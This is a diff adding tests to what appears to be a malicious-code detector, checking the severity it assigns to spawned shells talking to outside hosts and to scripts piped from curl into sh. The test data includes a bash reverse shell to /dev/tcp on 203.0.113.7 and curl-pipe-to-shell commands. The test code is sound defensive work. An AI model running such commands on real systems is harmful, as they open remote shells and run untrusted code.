@@ -57,3 +57,19 @@ test('hidden code counts in an obfuscated file alone', async () => {
   expect(await severities(ID, [hidden, fact('obfuscation')])).toEqual(['high']);
   expect(await severities(ID, [hidden, fact('obfuscation', { file: 'other.js' })])).toEqual([]);
 });
+
+test('a shell for another host', async () => {
+  const shell = fact('process', { command: '/bin/sh', api: 'child_process.spawn' });
+  const socket = (host: string) => fact('network', { method: 'socket', host, origins: [text(host)] });
+  expect(await severities(ID, [shell, socket('203.0.113.7')])).toEqual(['high']);
+  expect(await severities(ID, [shell, socket('127.0.0.1')])).toEqual([]);
+  expect(await severities(ID, [shell])).toEqual([]);
+  expect(await severities(ID, [fact('process', { command: 'bash -c "bash -i >& /dev/tcp/203.0.113.7/2333 0>&1"' })])).toEqual(['high']);
+});
+
+test('a script fetched on a command line in plain sight', async () => {
+  const line = (address: string) => [fact('process', { command: `curl -fsSL ${address} | sh` })];
+  expect(await severities(ID, line('https://get.example.com/i.sh'))).toEqual(['medium']);
+  expect(await severities(ID, line('http://203.0.113.7/i.sh'))).toEqual(['high']);
+  expect(await severities(ID, line('https://get.own.example.com/i.sh'), { says: ['get.own.example.com'] })).toEqual([]);
+});
